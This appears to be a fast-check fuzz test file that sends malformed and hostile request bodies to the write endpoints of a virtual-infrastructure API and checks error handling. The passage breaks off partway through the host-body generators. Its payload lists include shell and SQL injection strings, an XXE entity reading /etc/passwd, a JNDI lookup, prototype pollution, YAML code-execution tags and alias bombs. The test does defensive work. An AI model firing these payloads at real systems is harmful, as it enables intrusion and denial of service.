/**
 * Property-based fuzzing of every write endpoint with malformed and hostile bodies.
 *
 * For every request, whatever the body:
 * - the answer is never a 5xx;
 * - every 4xx is application/problem+json, and when it carries `errors`, each entry has a string
 *   `path` (a JSON pointer: '' or starting with '/') and a string `message`;
 * - a rejected request stores nothing (row counts of the affected table are unchanged; for PATCH
 *   the descriptor's operationalState and updatedAt are unchanged), an accepted one stores exactly
 *   one row.
 *
 * fast-check prints the seed and the shrunk counterexample on failure; the thrown error names the
 * exact request and response.
 */
import { afterAll, beforeAll, beforeEach, describe, test } from '@jest/globals';
import type { INestApplication } from '@nestjs/common';
import fc from 'fast-check';
import type request from 'supertest';
import { DataSource } from 'typeorm';
import { Queue } from 'bullmq';
import { readFileSync } from 'node:fs';
import { parse as parseYaml, stringify as toYaml } from 'yaml';
import { client, type Client, startApi, tokenFor } from '../support/api.js';
import { AppConfig } from '#vim/config';
import { DEFAULT_TENANT_ID, Role } from '#vim/persistence';
import { QUEUES } from '#vim/platform';
import { insertInstance, insertSriovTestHost } from '../support/lcm-fixture.js';
import { minimalVnfd } from '../support/vnfd-builder.js';

// ---- Runs per property (a few thousand requests in all) --------------------------------------

const RUNS = {
  vnfdJsonValues: 500,
  vnfdRawText: 600,
  vnfdMutatedJson: 800,
  vnfdYaml: 700,
  patch: 600,
  tenants: 500,
  tokens: 500,
  hosts: 500,
  hostPatch: 400,
  chainCreate: 800,
  chainPatch: 400,
  chainFromNsd: 500,
  chainTrace: 300,
};
const PROPERTY_TIMEOUT_MS = 180_000;

// ---- Hostile building blocks -----------------------------------------------------------------

const SHELL = [
  '; rm -rf /',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '&& reboot',
  '|| true',
  '\n',
  '\r\n',
  '> /dev/sda',
  '$IFS',
  '${PATH}',
  "'; DROP TABLE tenants; --",
  '" OR 1=1 --',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '#{7*7}',
];
const XML = [
  '<domain type="kvm">',
  '</name><name>',
  ']]>',
  '<![CDATA[',
  '&xxe;',
  '&amp;&lt;&gt;',
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<?xml version="1.0"?>',
  '"\'<>&',
];
const ODD_CHARS = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\u0008',
  '\t',
  '\u000b',
  '\u000c',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u200b',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\ufffd',
  '\uffff',
  '\ud800',
  '\udfff',
  '\ud83d\ude00',
  'é',
  '\u0301',
  '\u202e',
];
const RESERVED_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'isPrototypeOf'];
const HUGE_NUMBERS = [
  1e308,
  -1e308,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER - 2,
  Number.MIN_VALUE,
  -0,
  0,
  -1,
  0.5,
  2 ** 31,
  2 ** 32,
  2 ** 63,
  2 ** 64,
  1e21,
  1e-7,
];
/** Numbers as JSON text that JavaScript cannot hold exactly (or at all). */
const RAW_JSON_NUMBERS = [
  '1e400',
  '-1e400',
  '1E+309',
  '1e-400',
  '-0',
  '-0.0',
  '9007199254740993',
  '-9007199254740993',
  '123456789012345678901234567890',
  '0.30000000000000000000000000000000001',
  '1.7976931348623157e308',
  '4.9e-324',
  '1' + '0'.repeat(400),
];
/** Raw YAML scalars and nodes put where a leaf was. */
const RAW_YAML_VALUES = [
  '1e400',
  '-.inf',
  '.inf',
  '.nan',
  '0x7fffffffffffffffffff',
  '0o777',
  '0777',
  '1_000',
  '1:20:30',
  '~',
  'null',
  'yes',
  'off',
  '!!js/function "function () { return process.exit(1) }"',
  '!!js/undefined ""',
  '!!js/regexp /x/g',
  '!!python/object/apply:os.system ["id"]',
  '!!binary aGVsbG8=',
  '!!timestamp 2001-12-14t21:59:43.10-05:00',
  '2001-12-14',
  '!!set {a, b}',
  '!!omap [a: 1, b: 2]',
  '!!pairs [a: 1, a: 2]',
  '!!float "x"',
  '!!int "0x10"',
  '!!int 1e400',
  '!!str 12',
  '!!null ""',
  '!!bool "maybe"',
  '!!map [1, 2]',
  '!!seq {a: 1}',
  '!local x',
  '!<tag:evil.example,2000:x> y',
  '*undefined_alias',
  '&anchor value',
  '&a [*a]',
  '|\n  block\n  text',
  '>-\n  folded',
  '"\\0\\x00\\u0000"',
  '"\\ud800"',
  "'single ''quoted'''",
  '[a, {b: c}, [d]]',
  '{? [k]: v}',
  '<<: {merged: 1}',
];

const oddChar = fc.constantFrom(...ODD_CHARS);
const fragment = fc.oneof(
  fc.constantFrom(...SHELL, ...XML),
  oddChar,
  fc.string({ maxLength: 8 }),
  fc.string({ unit: 'binary', maxLength: 8 }),
);
/** A string meant to hurt: metacharacters, control characters, NUL, unpaired surrogates, long runs. */
const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SHELL, ...XML, ...RESERVED_KEYS, '', ' ', 'x'.repeat(256)) },
  { weight: 3, arbitrary: fc.array(fragment, { minLength: 1, maxLength: 8 }).map((parts) => parts.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('a', 'é', '\u0000', '<', '"', '\\', '😀'), fc.integer({ min: 250, max: 30_000 })).map(([c, n]) => c.repeat(n)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('fw', 'ok-name', 'a'), oddChar).map(([s, c]) => s + c) },
);
const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...HUGE_NUMBERS),
  fc.double(),
  fc.integer(),
  fc.integer({ min: -5, max: 5 }),
);
const reservedKeyedObject = fc
  .tuple(fc.constantFrom(...RESERVED_KEYS), fc.jsonValue({ maxDepth: 2 }))
  .map(([key, value]) => withOwn({}, key, value));
/** A value of any JSON-ish shape, biased towards the hostile. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null, undefined, [], {}, [[]], [{}], ['fw'], { id: 'fw' }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: fc.anything({ maxDepth: 2 }) },
  { weight: 1, arbitrary: reservedKeyedObject },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 4 }) },
);
/** A key for an object: ordinary, reserved by Object.prototype, or hostile. */
const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...RESERVED_KEYS),
  fc.constantFrom('id', 'vnfd', 'name', 'x-extra', 'vdu', '', ' ', '/', '~', '~1', 'a/b', 'a~b', '0', '-1'),
  hostileString.filter((s) => s.length < 300),
);

/** Sets an own, enumerable property even for `__proto__` (so JSON.stringify writes it). */
function withOwn<T extends object>(target: T, key: string, value: unknown): T {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return target;
}

// ---- Raw text bodies --------------------------------------------------------------------------

const depth = fc.integer({ min: 60, max: 2000 });
const deepArrays = depth.map((n) => '['.repeat(n) + ']'.repeat(n));
const deepObjects = depth.map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n));
const deepMixed = depth.map((n) => '{"a":['.repeat(n) + 'null' + ']}'.repeat(n));
const deepUnclosed = depth.map((n) => '['.repeat(n));
const deepInVnfd = fc
  .tuple(depth, fc.constantFrom('configurable-properties', 'vdu', 'id', 'modifiable-attributes', 'kdu'))
  .map(([n, key]) => `{"vnfd":{"id":"deep","version":"1","product-name":"p","${key}":${'{"a":'.repeat(n)}1${'}'.repeat(n)}}}`);
const hugeNumberDocs = fc.constantFrom(...RAW_JSON_NUMBERS).chain((num) =>
  fc.constantFrom(
    num,
    `[${num}]`,
    `{"vnfd":${num}}`,
    `{"vnfd":{"id":${num},"version":${num},"product-name":${num}}}`,
    `{"operationalState":${num}}`,
    `{"name":${num}}`,
    `{"tenantId":${num},"name":"n","role":"viewer","expiresAt":${num}}`,
  ),
);
/** JSON-looking text that is not (quite) JSON, and odd-but-valid JSON. */
const brokenJson = fc.constantFrom(
  '',
  ' ',
  '\n\t\r ',
  '\ufeff',
  '\ufeff{}',
  'null',
  'true',
  '0',
  '""',
  '"\\u0000"',
  '{}',
  '[]',
  '{',
  '}',
  '[',
  '{"vnfd":',
  '{"vnfd":{}',
  '{"vnfd":{}}}',
  '{"vnfd":{},}',
  '{vnfd: {}}',
  "{'vnfd': {}}",
  '{"vnfd": NaN}',
  '{"vnfd": Infinity}',
  '{"vnfd": -Infinity}',
  '{"vnfd": undefined}',
  '{"vnfd": 0x10}',
  '{"vnfd": 01}',
  '{"vnfd": .5}',
  '{"vnfd": +1}',
  '{"vnfd": 1.}',
  '{"vnfd": "\u0000"}',
  '{"vnfd": "tab\there"}',
  '{"vnfd": "line\nbreak"}',
  '{"vnfd": "\\x41"}',
  '{"vnfd": "\\u12"}',
  '{"vnfd": "\\ud800"}',
  '{"vnfd": "\\udfff\\ud800"}',
  '{"vnfd": {"id": "\\u0000", "version": "1", "product-name": "p"}}',
  '{"vnfd": {} /* comment */}',
  '// comment\n{}',
  '{"vnfd": {}}\n{"vnfd": {}}',
  '{"vnfd": {}} trailing',
  '{"vnfd":{"id":"a"},"vnfd":{"id":"b"}}',
  '{"__proto__":{"vnfd":{"id":"x"}}}',
  '{"__proto__":{"polluted":true},"vnfd":{}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"vnfd":{"__proto__":{"id":"x","version":"1","product-name":"p"}}}',
  '{"vnfd":{"id":"x","version":"1","product-name":"p","constructor":{"name":"y"}}}',
  '{"operationalState":"DISABLED","__proto__":{"operationalState":"ENABLED"}}',
  '{"name":"abc","__proto__":{"name":"x"}}',
  '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><vnfd>&xxe;</vnfd>',
  '<vnfd><id>x</id></vnfd>',
  'vnfd:\n  id: x\n',
  '\u0000',
  '\u0000\u0000\u0000\u0000',
  '{"\u0000": 1}',
  '{"":{"":{"":""}}}',
);
/** Any string, then JSON-ish text with hostile parts spliced in. */
const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: brokenJson },
  { weight: 2, arbitrary: fc.oneof(deepArrays, deepObjects, deepMixed, deepUnclosed, deepInVnfd) },
  { weight: 2, arbitrary: hugeNumberDocs },
  { weight: 2, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.tuple(brokenJson, fc.nat(), hostileString).map(([t, at, s]) => t.slice(0, at % (t.length + 1)) + s + t.slice(at % (t.length + 1))) },
);

/** Content types JSON bodies go out with: all application/json, which alone JSON routes take (others are fuzzed in fuzz-content-types). */
const JSON_TYPES = ['application/json', 'application/json; charset=utf-8', 'Application/JSON', 'application/json; charset=UTF-8'];
const OTHER_TYPES = [
  'application/problem+json',
  'application/merge-patch+json',
  'application/json; charset=utf-16le',
  'application/json; charset=latin1',
  'application/json; charset=x-unknown',
  'application/json;;;',
  'application/yaml',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  '*/*',
];
const jsonType = fc.oneof({ weight: 6, arbitrary: fc.constant('application/json') }, { weight: 1, arbitrary: fc.constantFrom(...JSON_TYPES) });
const anyType = fc.oneof({ weight: 4, arbitrary: fc.constant('application/json') }, { weight: 2, arbitrary: fc.constantFrom(...JSON_TYPES) }, { weight: 2, arbitrary: fc.constantFrom(...OTHER_TYPES) });

/** JSON.stringify that never throws and always gives text ('' for undefined). */
function toJsonText(value: unknown): string {
  try {
    return JSON.stringify(value) ?? '';
  } catch {
    return String(value);
  }
}

// ---- Mutations of a valid VNFD ----------------------------------------------------------------

type Path = (string | number)[];
type Mutation =
  | { kind: 'set'; path: Path; value: unknown }
  | { kind: 'delete'; path: Path }
  | { kind: 'add'; path: Path; key: string; value: unknown }
  | { kind: 'wrap'; path: Path; how: 'array' | 'object' }
  | { kind: 'raw'; path: Path; text: string };

const isContainer = (v: unknown): v is Record<string, unknown> | unknown[] => typeof v === 'object' && v !== null;

function pathsOf(value: unknown, at: Path = [], out: Path[] = []): Path[] {
  out.push(at);
  if (Array.isArray(value)) value.forEach((v, i) => pathsOf(v, [...at, i], out));
  else if (isContainer(value)) for (const [k, v] of Object.entries(value)) pathsOf(v, [...at, k], out);
  return out;
}

function valueAt(root: unknown, path: Path): unknown {
  return path.reduce<unknown>((node, key) => (isContainer(node) ? (node as Record<string | number, unknown>)[key] : undefined), root);
}

const BASE = minimalVnfd();
const ALL_PATHS = pathsOf(BASE).filter((p) => p.length > 0);
const LEAF_PATHS = ALL_PATHS.filter((p) => !isContainer(valueAt(BASE, p)));
const CONTAINER_PATHS = pathsOf(BASE).filter((p) => isContainer(valueAt(BASE, p)));
/** Free-text leaves: anything goes there, so hostile strings get stored (201). */
const TEXT_PATHS: Path[] = [
  ['vnfd', 'id'],
  ['vnfd', 'provider'],
  ['vnfd', 'product-name'],
  ['vnfd', 'version'],
  ['vnfd', 'software-version'],
  ['vnfd', 'description'],
  ['vnfd', 'product-info-name'],
  ['vnfd', 'vdu', 0, 'name'],
  ['vnfd', 'vdu', 0, 'description'],
  ['vnfd', 'vdu', 0, 'cloud-init'],
  ['vnfd', 'sw-image-desc', 0, 'name'],
  ['vnfd', 'sw-image-desc', 0, 'image'],
  ['vnfd', 'vdu', 0, 'int-cpd', 0, 'virtual-network-interface-requirement', 0, 'name'],
];

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...LEAF_PATHS), value: hostileValue }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...ALL_PATHS), value: hostileValue }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...TEXT_PATHS), value: hostileString }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('delete' as const), path: fc.constantFrom(...ALL_PATHS) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('add' as const), path: fc.constantFrom(...CONTAINER_PATHS), key: hostileKey, value: hostileValue }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('wrap' as const), path: fc.constantFrom(...ALL_PATHS), how: fc.constantFrom('array' as const, 'object' as const) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('raw' as const), path: fc.constantFrom(...LEAF_PATHS), text: fc.constantFrom(...RAW_JSON_NUMBERS) }) },
);
const mutations = fc.array(mutation, { minLength: 1, maxLength: 3 });
/** Suffix that keeps most mutated descriptors from colliding on (id, version) with earlier ones. */
const uniqueSuffix = fc.stringMatching(/^[a-z0-9]{12}$/);

const RAW_MARK = (i: number) => `@@RAW${i}@@`;

/** Applies mutations to a fresh copy of a valid VNFD; raw ones leave a marker to substitute in the text. */
function mutate(suffix: string, list: Mutation[]): { doc: unknown; raws: string[] } {
  return mutateDoc(minimalVnfd(`fz-${suffix}`), list);
}

/** Applies mutations to `doc` (changed in place); raw ones leave a marker to substitute in the text. */
function mutateDoc(doc: unknown, list: Mutation[]): { doc: unknown; raws: string[] } {
  const raws: string[] = [];
  const root = { doc };
  for (const m of list) {
    const full: Path = ['doc', ...m.path];
    const parent = valueAt(root, full.slice(0, -1));
    const key = full[full.length - 1];
    if (!isContainer(parent)) continue; // an earlier mutation removed or replaced the parent
    const slot = parent as Record<string | number, unknown>;
    switch (m.kind) {
      case 'set':
        slot[key] = m.value;
        break;
      case 'delete':
        if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
        else delete slot[key];
        break;
      case 'add': {
        const target = slot[key];
        if (Array.isArray(target)) target.push(m.value);
        else if (isContainer(target)) withOwn(target, m.key, m.value);
        break;
      }
      case 'wrap':
        slot[key] = m.how === 'array' ? [slot[key]] : { value: slot[key] };
        break;
      case 'raw':
        slot[key] = RAW_MARK(raws.length);
        raws.push(m.text);
        break;
    }
  }
  return { doc: root.doc, raws };
}

function mutatedJson(suffix: string, list: Mutation[]): string {
  const { doc, raws } = mutate(suffix, list);
  return raws.reduce((text, raw, i) => text.split(`"${RAW_MARK(i)}"`).join(raw), toJsonText(doc));
}

function mutatedYaml(suffix: string, list: Mutation[], rawYaml: string[]): string {
  const { doc, raws } = mutate(suffix, list);
  let text: string;
  try {
    text = toYaml(doc, { aliasDuplicateObjects: false });
  } catch {
    text = toJsonText(doc); // JSON is YAML too
  }
  // The marker comes out quoted or plain, depending on the emitter's mood.
  return raws.reduce((t, _, i) => t.replace(new RegExp(`(["']?)${RAW_MARK(i)}\\1`, 'g'), rawYaml[i % rawYaml.length] ?? 'x'), text);
}

// ---- YAML specials ----------------------------------------------------------------------------

/** Aliases of aliases: width^levels nodes if expanded, kept small enough to finish if not refused. */
const aliasBomb = fc.tuple(fc.integer({ min: 2, max: 9 }), fc.integer({ min: 2, max: 5 }), fc.boolean()).map(([width, levels, inVnfd]) => {
  const lines = [`l0: &l0 [${Array(width).fill('"lol"').join(', ')}]`];
  for (let i = 1; i <= levels; i++) lines.push(`l${i}: &l${i} [${Array(width).fill(`*l${i - 1}`).join(', ')}]`);
  const body = lines.join('\n') + '\n';
  return inVnfd ? `vnfd:\n  id: bomb\n  version: "1"\n  product-name: p\n  configurable-properties:\n${body.replace(/^/gm, '    ')}` : body;
});
const deepYaml = fc.oneof(
  depth.map((n) => '['.repeat(n) + ']'.repeat(n) + '\n'),
  depth.map((n) => '{a: '.repeat(n) + '1' + '}'.repeat(n) + '\n'),
  fc.integer({ min: 60, max: 600 }).map((n) => Array.from({ length: n }, (_, i) => ' '.repeat(i) + 'a:').join('\n') + ' 1\n'),
  fc.integer({ min: 60, max: 2000 }).map((n) => '- '.repeat(n) + 'x\n'),
  depth.map((n) => `vnfd:\n  id: deep\n  version: "1"\n  product-name: p\n  kdu: ${'['.repeat(n)}${']'.repeat(n)}\n`),
);
const valid = toYaml(minimalVnfd('yaml-special'));
const yamlSpecials = fc.constantFrom(
  'vnfd: !!js/function "function () { return process.exit(1) }"\n',
  'vnfd: !!js/undefined ""\n',
  'vnfd: !!python/object/apply:os.system ["id"]\n',
  '!!binary aGVsbG8=\n',
  'vnfd: !!set {a, b}\n',
  'vnfd: !!omap [a: 1, b: 2]\n',
  'vnfd: !!timestamp 2001-12-14t21:59:43.10-05:00\n',
  '%YAML 1.1\n---\nvnfd: {id: 2001-12-14, version: 0777, provider: yes, product-name: on}\n',
  '%YAML 1.1\n---\nbase: &b {id: x, version: "1", product-name: p}\nvnfd: {<<: *b}\n',
  '%YAML 1.1\n---\n' + valid.replace('provider: Acme', 'provider: !!binary QWNtZQ=='),
  '%YAML 1.2\n%YAML 1.2\n---\nvnfd: {}\n',
  '%TAG ! tag:evil.example,2000:\n---\nvnfd: !thing {}\n',
  '%FOO bar\n---\nvnfd: {}\n',
  '---\nvnfd: {}\n---\nvnfd: {}\n',
  `${valid}---\n${valid}`,
  `${valid}...\n`,
  `---\n${valid}...\n---\n`,
  'vnfd: {}\n...\n---\n',
  '---\n',
  '...\n',
  '',
  '# only a comment\n',
  '~\n',
  'null\n',
  '"just a string"\n',
  '42\n',
  '- a\n- b\n',
  '? [a, b]\n: c\n',
  '? {vnfd: 1}\n: 2\n',
  'vnfd:\n  ? [id]\n  : x\n',
  '&a [*a]\n',
  'vnfd: &v {self: *v}\n',
  'vnfd: &v\n  id: x\n  version: "1"\n  product-name: p\n  kdu: [*v]\n',
  '*nope\n',
  '&a\n',
  'vnfd: {id: x, id: y}\n',
  'vnfd:\n  id: x\n  id: x\n',
  'vnfd:\n\tid: x\n',
  'vnfd: "\\0"\n',
  'vnfd: "\\ud800"\n',
  'vnfd:\n  id: "\\u0000"\n  version: "1"\n  product-name: p\n',
  'vnfd: \u0000\n',
  '\u0000',
  '\ufeffvnfd: {}\n',
  'vnfd: {id: x\n',
  'vnfd: [\n',
  'vnfd: "unterminated\n',
  'vnfd:\n  - a\n  b: c\n',
  'vnfd: |\n  <domain type="kvm"><![CDATA[ ]]> &xxe; <!DOCTYPE x>\n',
  'vnfd: {id: "$(id)", version: "`id`", product-name: "; rm -rf /"}\n',
  '__proto__: {vnfd: {id: x}}\n',
  'vnfd: {__proto__: {id: x, version: "1", product-name: p}}\n',
  'vnfd: {id: x, version: "1", product-name: p, constructor: {prototype: {polluted: true}}}\n',
  '<<: {vnfd: {}}\n',
);
const yamlBody: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(uniqueSuffix, mutations, fc.array(fc.constantFrom(...RAW_YAML_VALUES), { minLength: 1, maxLength: 3 })).map(([s, m, r]) => mutatedYaml(s, m, r)) },
  { weight: 2, arbitrary: yamlSpecials },
  { weight: 1, arbitrary: aliasBomb },
  { weight: 1, arbitrary: deepYaml },
  { weight: 1, arbitrary: hostileString },
  { weight: 1, arbitrary: hostileText },
);
const yamlType = fc.constantFrom('application/yaml', 'application/x-yaml', 'text/yaml', 'text/x-yaml', 'application/yaml; charset=utf-8');

// ---- Tenants and tokens -----------------------------------------------------------------------

const validName = fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,62}$/);
const almostName = fc.oneof(
  validName.map((n) => n + '\n'),
  validName.map((n) => '\n' + n),
  validName.map((n) => n.toUpperCase() + 'X'),
  validName.map((n) => n + '-'.repeat(64)),
  validName.map((n) => '-' + n),
  validName.map((n) => n + ' '),
  fc.constantFrom('', 'a'.repeat(64), 'a'.repeat(63), 'ａｂｃ', 'abc\u0000', 'abc\u200b', 'ab_c', 'a.b'),
);
const nameValue = fc.oneof({ weight: 3, arbitrary: validName }, { weight: 2, arbitrary: almostName }, { weight: 3, arbitrary: hostileValue });

const tenantBody: fc.Arbitrary<{ type: string; body: string }> = fc.oneof(
  { weight: 5, arbitrary: fc.tuple(jsonType, nameValue).map(([type, name]) => ({ type, body: toJsonText({ name }) })) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(jsonType, nameValue, fc.dictionary(hostileKey, hostileValue, { minKeys: 1, maxKeys: 3 }))
      .map(([type, name, extra]) => ({ type, body: toJsonText(withOwn({ ...extra }, 'name', name)) })),
  },
  { weight: 1, arbitrary: fc.tuple(jsonType, fc.constantFrom(...RESERVED_KEYS), nameValue).map(([type, k, name]) => ({ type, body: toJsonText(withOwn({ name }, k, { name: 'x' })) })) },
  { weight: 2, arbitrary: fc.tuple(jsonType, fc.oneof(fc.anything(), fc.jsonValue())).map(([type, v]) => ({ type, body: toJsonText(v) })) },
  { weight: 2, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body })) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...OTHER_TYPES), validName).map(([type, name]) => ({ type, body: toJsonText({ name }) })) },
);

const DATE_STRINGS = [
  '2099-01-01T00:00:00Z',
  '2099-01-01',
  '2099',
  '2099-01',
  '2099-02-29T00:00:00Z',
  '2096-02-29T00:00:00Z',
  '2099-13-01T00:00:00Z',
  '2099-12-31T24:00:00Z',
  '2099-12-31T23:59:60Z',
  '2099-12-31T23:59:59.999999999Z',
  '2099-12-31T23:59:59+14:00',
  '2099-12-31T23:59:59-23:59',
  '2099-12-31T23:59:59+99:99',
  '2099-12-31 23:59:59',
  '2099-12-31t23:59:59z',
  '20991231T235959Z',
  '20991231',
  '2099-W01-1',
  '2099W011',
  '2099-W53-7',
  '2099-001',
  '2099-366',
  '2099001',
  '+2099-01-01',
  '+002099-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '+275760-09-13T00:00:00.001Z',
  '+999999-12-31T23:59:59Z',
  '-000001-01-01T00:00:00Z',
  '-0001-01-01',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '1969-12-31T23:59:59Z',
  '1970-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '2099-01-01T00:00:00,5Z',
  '2099-01-01T00Z',
  '2099-01-01T0000',
  '2099-01-01T00:00:00.Z',
  'now',
  'Infinity',
  'tomorrow',
  '',
  ' 2099-01-01',
  '2099-01-01\n',
];
const dateValue = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...DATE_STRINGS) },
  { weight: 2, arbitrary: fc.date({ min: new Date('1900-01-01T00:00:00Z'), max: new Date('2300-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()) },
  {
    weight: 2,
    arbitrary: fc.stringMatching(/^[+-]?\d{4,6}(-?(0\d|1[0-3])(-?[0-3]\d)?)?(T([0-2]\d)(:?[0-6]\d(:?[0-6]\d([.,]\d{1,9})?)?)?([zZ]|[+-][0-2]\d(:?[0-5]\d)?)?)?$/),
  },
  { weight: 1, arbitrary: fc.stringMatching(/^\d{4}-?(W[0-5]\d(-?[0-8])?|[0-3]\d\d)$/) },
  { weight: 2, arbitrary: hostileValue },
);
const UUIDS = [DEFAULT_TENANT_ID, '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', DEFAULT_TENANT_ID.toUpperCase(), '{00000000-0000-4000-8000-000000000001}', '00000000000040008000000000000001', ' ' + DEFAULT_TENANT_ID];
const tenantIdValue = fc.oneof(
  { weight: 4, arbitrary: fc.constant(DEFAULT_TENANT_ID) },
  { weight: 2, arbitrary: fc.constantFrom(...UUIDS) },
  { weight: 2, arbitrary: fc.uuid() },
  { weight: 2, arbitrary: hostileValue },
);
const roleValue = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('admin', 'operator', 'viewer') },
  { weight: 1, arbitrary: fc.constantFrom('ADMIN', 'Admin', 'root', 'superuser', '', 'admin ', 'admin\u0000', '__proto__', 'constructor') },
  { weight: 1, arbitrary: hostileValue },
);
const tokenFields = fc.record(
  { tenantId: tenantIdValue, name: nameValue, role: roleValue, expiresAt: dateValue },
  { requiredKeys: ['tenantId', 'name', 'role'] },
);
const futureDate = fc.date({ min: new Date('2030-01-01T00:00:00Z'), max: new Date('2200-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString());
/** A valid token request with one or two fields made hostile, so the hostile one is what decides. */
const nearlyValidToken = fc
  .tuple(
    fc.record({ tenantId: fc.constant(DEFAULT_TENANT_ID), name: validName, role: fc.constantFrom('admin', 'operator', 'viewer'), expiresAt: futureDate }, { requiredKeys: ['tenantId', 'name', 'role'] }),
    fc.record({ tenantId: tenantIdValue, name: nameValue, role: roleValue, expiresAt: dateValue }, { requiredKeys: [] }),
  )
  .map(([valid, hostile]) => ({ ...valid, ...hostile }));
const tokenBody: fc.Arbitrary<{ type: string; body: string }> = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(jsonType, nearlyValidToken).map(([type, fields]) => ({ type, body: toJsonText(fields) })) },
  { weight: 2, arbitrary: fc.tuple(jsonType, tokenFields).map(([type, fields]) => ({ type, body: toJsonText(fields) })) },
  { weight: 2, arbitrary: fc.tuple(jsonType, fc.record({ tenantId: tenantIdValue, name: nameValue, role: roleValue, expiresAt: dateValue }, { requiredKeys: [] })).map(([type, f]) => ({ type, body: toJsonText(f) })) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(jsonType, tokenFields, hostileKey, hostileValue)
      .map(([type, fields, k, v]) => ({ type, body: toJsonText(withOwn({ ...fields }, k, v)) })),
  },
  { weight: 1, arbitrary: fc.tuple(jsonType, fc.oneof(fc.anything(), fc.jsonValue())).map(([type, v]) => ({ type, body: toJsonText(v) })) },
  { weight: 2, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body })) },
);

// ---- Hosts ------------------------------------------------------------------------------------

const HOSTILE_URIS = ['qemu:///system; rm -rf /', 'qemu:///system$(id)', 'qemu+ssh://root@host/system?command=id', 'test:///../../etc/passwd\n', 'file:///etc/passwd', 'qemu:///system\u0000', 'javascript:alert(1)', ''];
const HOSTILE_REMOTES = ['unix:/var/run/openvswitch/db.sock;reboot', 'tcp:127.0.0.1:99999', 'tcp:127.0.0.1', 'ssl:127.0.0.1:6640', 'punix:/tmp/x', 'tcp:$(id):6640', ''];
const uriValue = fc.oneof({ weight: 3, arbitrary: fc.constantFrom('test:///default', 'qemu:///system') }, { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_URIS) }, { weight: 2, arbitrary: hostileValue });
const remoteValue = fc.oneof({ weight: 3, arbitrary: fc.constant('tcp:127.0.0.1:6640') }, { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_REMOTES) }, { weight: 2, arbitrary: hostileValue });
const physnetsValue = fc.oneof(
  { weight: 2, arbitrary: fc.constant({ '0000:3b:00.0': 'sriov-a' }) },
  { weight: 3, arbitrary: fc.dictionary(fc.oneof(hostileKey, fc.constantFrom('ens1f0', '0000:3b:00.0', 'eth0;reboot')), fc.oneof(hostileValue, fc.constant('sriov-a')), { maxKeys: 4 }) },
  { weight: 1, arbitrary: hostileValue },
);
const cpuListValue = fc.oneof(fc.array(fc.integer({ min: -5, max: 5000 }), { maxLength: 5 }), hostileValue);
const hostFields = fc.record(
  { name: nameValue, libvirtUri: uriValue, ovsdbRemote: remoteValue, physnets: physnetsValue, reservedCpus: cpuListValue, pmdQueueCapacity: fc.oneof(fc.integer({ min: -2, max: 100 }), hostileValue) },
  { requiredKeys: [] },
);
const hostBody: fc.Arbitrary<{ type: string; body: string }> = fc.oneof(
  { weight: 5, arbitrary: fc.tuple(jsonType, hostFields).map(([type, fields]) => ({ type, body: toJsonText(fields) })) },
